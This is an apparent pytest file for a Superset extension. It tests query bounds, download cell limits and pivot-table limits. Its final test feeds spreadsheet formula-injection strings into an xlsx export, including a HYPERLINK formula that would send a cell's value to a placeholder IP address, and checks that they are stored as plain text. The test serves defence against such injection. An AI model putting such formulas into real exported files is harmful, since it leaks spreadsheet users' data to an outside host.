"""What a question of a chart may ask for, whoever asks: each bound, from both sides."""

from __future__ import annotations

import html
import io
import zipfile
from typing import Any

import pandas as pd
import pytest
from flask import Flask
from superset.exceptions import QueryObjectValidationError
from superset_questions import ARRANGED, MALFORMED, OWN_OPERATIONS, TOO_MUCH, operations
from werkzeug.exceptions import RequestEntityTooLarge, UnprocessableEntity

from sojourn_superset import assets, chart_bounds
from sojourn_superset.chart_bounds import (
    as_xlsx,
    refuse_excess,
    refuse_large_answer,
)
from sojourn_superset.operation_bounds import LONGEST_NAME_CHARACTERS
from sojourn_superset.settings import ASSETS


@pytest.mark.parametrize("name", [*ARRANGED, *OWN_OPERATIONS])
def test_what_superset_asks_is_within_bounds(name: str) -> None:
    refuse_excess([(ARRANGED | OWN_OPERATIONS)[name]])


@pytest.mark.parametrize("name", sorted({*TOO_MUCH, *MALFORMED} - {"a long range of time", "a long time offset"}))
def test_what_is_too_much_or_malformed_is_refused(name: str) -> None:
    with pytest.raises(QueryObjectValidationError):
        refuse_excess([(TOO_MUCH | MALFORMED)[name]])


@pytest.mark.parametrize(
    ("most", "more"),
    [
        ([{}] * 10, [{}] * 11),
        (
            [{"annotation_layers": [{}] * 20}] * 2,
            [{"annotation_layers": [{}] * 20}] * 2 + [{"annotation_layers": [{}]}],
        ),
        (
            [{"annotation_layers": [{"overrides": {"time_range": 1}}]}],
            [{"annotation_layers": [{"overrides": {"a": 1}}]}],
        ),
        ([{"metrics": ["x"], "time_offsets": ["1 day ago"]}], [{"columns": ["x"], "time_offsets": ["1 day ago"]}]),
        ([{"columns": ["x"] * 150}] * 2, [{"columns": ["x"] * 150, "orderby": [["x", True]]}] * 2),
        ([{"filters": [{"val": [1] * 2_500}]}] * 2, [{"filters": [{"val": 1}, {"val": ["x"] * 5_000}]}]),
        ([{"columns": ["x" * 255]}], [{"columns": ["x" * 256]}]),
        ([{"series_limit_metric": {"label": "x" * 255}}], [{"series_limit_metric": {"label": "x" * 256}}]),
        ([operations(("prophet", {"periods": 1_000}))], [operations(("prophet", {"periods": 1_001}))]),
        ([operations(("diff", {"periods": -1_000}))], [operations(("diff", {"periods": -1e300}))]),
        ([operations(("rolling", {"window": 1}))], [operations(("rolling", {"window": float("inf")}))]),
        (
            [operations(("select", {"columns": list(map(str, range(999)))}))],
            [operations(("select", {"columns": list(map(str, range(1_000)))}))],
        ),
        (
            [operations(("compare", {"source_columns": ["x", "x"], "compare_columns": ["y", "z"]}))],
            [operations(("contribution", {"rename_columns": ["x", "x"]}))],
        ),
        ([operations(("select", {"columns": ["x", "y"]}))], [operations(("select", {"columns": ["x", "x"]}))]),
        ([{"post_processing": [None, {"operation": "flatten"}]}], [{"post_processing": [None] * 41}]),
    ],
)
def test_a_bound_holds_from_both_sides(most: list[dict[str, Any]], more: list[dict[str, Any]]) -> None:
    refuse_excess(most)
    with pytest.raises(QueryObjectValidationError):
        refuse_excess(more)


TEXTS = pd.DataFrame({"int": [1, None, 3], "text": ["a", None, "b"]})


def test_a_pivot_table_of_texts_is_not_added_up() -> None:
    bounded = chart_bounds._bounded_pivot(lambda df, *_, **__: df)
    with pytest.raises(UnprocessableEntity, match="text has texts"):
        bounded(TEXTS, ["int"], [], ["text"], aggfunc="Average")
    bounded(TEXTS, ["int"], [], ["text"], aggfunc="Count")
    bounded(TEXTS, ["int"], [], ["int"])


@pytest.mark.parametrize(
    ("most", "more", "columns"),
    [
        ({"columns": ["x" * 240], "row_limit": 2**19}, {"columns": ["x" * 240], "row_limit": 2**19 + 1}, []),
        (
            {"metrics": [{"label": "x" * 112}], "row_limit": 2**20},
            {"metrics": [{"label": "x" * 113}], "row_limit": 2**20},
            [],
        ),
        ({"row_limit": 2**20}, {"row_limit": 2**20 + 1}, ["x" * 48] * 2),
        (
            {"metrics": ["x" * 48], "time_offsets": ["1 day ago"], "row_limit": 2**20},
            {"metrics": ["x" * 48], "time_offsets": ["1 day ago", "2 days ago"], "row_limit": 2**20},
            [],
        ),
    ],
)
def test_a_large_answer_is_refused_before_it_is_computed(
    most: dict[str, Any], more: dict[str, Any], columns: list[str]
) -> None:
    refuse_large_answer([most], columns)
    for queries in ([more], [most, {**more, "row_limit": 1}]):
        with pytest.raises(QueryObjectValidationError, match="lower the row limit"):
            refuse_large_answer(queries, columns)


def test_the_names_of_the_dashboards_are_within_bounds() -> None:
    def labels(value: Any) -> list[str]:
        if isinstance(value, dict):
            own = [value["label"]] if isinstance(value.get("label"), str) else []
            return own + [each for part in value.values() for each in labels(part)]
        return [each for part in value for each in labels(part)] if isinstance(value, list) else []

    found = [
        each for name, asset in assets.read(ASSETS).items() if name.startswith("charts/") for each in labels(asset)
    ]
    assert len(found) > 100
    assert max(map(len, found)) <= LONGEST_NAME_CHARACTERS


ROWS = pd.DataFrame({"x": range(1_000), "y": range(1_000), "one": 1})


@pytest.mark.parametrize(
    ("kind", "cells", "advice"),
    [
        ("xlsx", 500_000, "filter, choose fewer columns, choose csv, or read the rows from the Sojourn API"),
        ("csv", 1_000_000, "filter, choose fewer columns, or read the rows from the Sojourn API"),
    ],
)
def test_the_files_of_a_request_have_a_number_of_cells(kind: str, cells: int, advice: str) -> None:
    written = []
    write = chart_bounds._within_cells(kind, lambda rows, index: written.append(rows.size))
    half = pd.DataFrame({"x": range(cells // 4), "y": 1})
    for _ in range(2):
        with Flask("superset").app_context():
            write(half, index=False)
            write(half, index=False)
            with pytest.raises(RequestEntityTooLarge, match=f"the {kind} file would have .* more than {cells:,}") as no:
                write(half[:1], index=False)
        assert str(no.value.description).endswith(advice)
    assert written == [cells // 2] * 4


def test_the_pivot_table_of_a_download_has_a_number_of_cells() -> None:
    made = []
    pivot = chart_bounds._bounded_pivot(lambda df, rows, columns, metrics: made.append(len(df)))
    pivot(ROWS, rows=["x", "one"], columns=["one"], metrics=["y"] * 10)
    pivot(ROWS[:100], rows=["x"], columns=["y"], metrics=["one"])
    pivot(ROWS, rows=[], columns=["x"], metrics=["one"])
    with pytest.raises(RequestEntityTooLarge, match="would have 11,000 cells, more than 10,000"):
        pivot(ROWS, rows=["x", "one"], columns=["one"], metrics=["y"] * 11)
    with pytest.raises(RequestEntityTooLarge, match="would have 1,000,000 cells, more than 10,000"):
        pivot(ROWS, rows=["x"], columns=["y"], metrics=["one"])
    assert made == [1_000, 100, 1_000]


def test_a_format_of_a_download_fills_no_value_up() -> None:
    made = []
    table = chart_bounds._bounded_formats(lambda rows, form, datasource: made.append(form))
    for number_format in (",.2f", ".3~s", "$,.15f", None):
        table(ROWS, {"column_config": {"x": {"d3NumberFormat": number_format}}})
    table(ROWS, {})
    with pytest.raises(RequestEntityTooLarge, match="d3NumberFormat"):
        table(ROWS, {"column_config": {"x": {}, "y": {"d3NumberFormat": ">100000000"}}})
    assert len(made) == 5


def test_no_text_of_a_spreadsheet_is_a_formula() -> None:
    texts = ["=1+1", '=HYPERLINK("http://192.0.2.1/"&A2,"median")', "http://192.0.2.1/", "+1"]
    rows = pd.DataFrame([range(4)], columns=texts, index=["=2+2"])
    content = as_xlsx(lambda rows: rows, rows)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode()
        assert not [name for name in archive.namelist() if "rels" in name and "sheet1" in name]
    assert "<f>" not in sheet
    assert [text for text in (*texts, "=2+2") if html.escape(text, quote=False) not in strings] == []
